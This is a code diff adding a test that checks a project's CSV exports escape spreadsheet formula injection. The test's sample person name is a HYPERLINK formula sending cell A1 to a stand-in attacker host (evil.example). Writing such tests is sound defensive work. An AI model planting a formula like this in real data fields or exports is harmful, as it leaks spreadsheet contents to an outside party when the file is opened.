@@ -53,3 +53,28 @@ def test_bad_period_is_a_one_line_error(demo):
 def test_no_organisation_says_what_to_do():
     with pytest.raises(CommandError, match="organisation"):
         run("--period", "2026-10")
+
+
+def test_csv_exports_write_no_formula_a_spreadsheet_would_run(demo):
+    """Issue 11 point 8: a name like =HYPERLINK(...) is written as text in targets and measure CSV."""
+    import datetime as dt
+
+    from leadpact.organization.models import Team
+    from leadpact.organization.services import person_create
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    person_create(
+        team=Team.objects.get(key="marketing"), name=evil, email="evil@example.com",
+        start_date=dt.date(2026, 1, 1), actor="test",
+    )  # fmt: skip
+    targets = list(csv.DictReader(io.StringIO(run("--period", "2026-10", "--format", "csv"))))
+    assert "'" + evil in {r["person"] for r in targets}
+    assert not any(v.startswith(("=", "+", "@")) for r in targets for v in r.values())
+    out = io.StringIO()
+    call_command(
+        "measure", "--period", "2026-10", "--now", "2026-10-14T12:00+02:00", "--format", "csv", stdout=out
+    )
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert "'" + evil in {r["subject_name"] for r in rows}
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    assert {"pace", "currency"} <= set(rows[0])
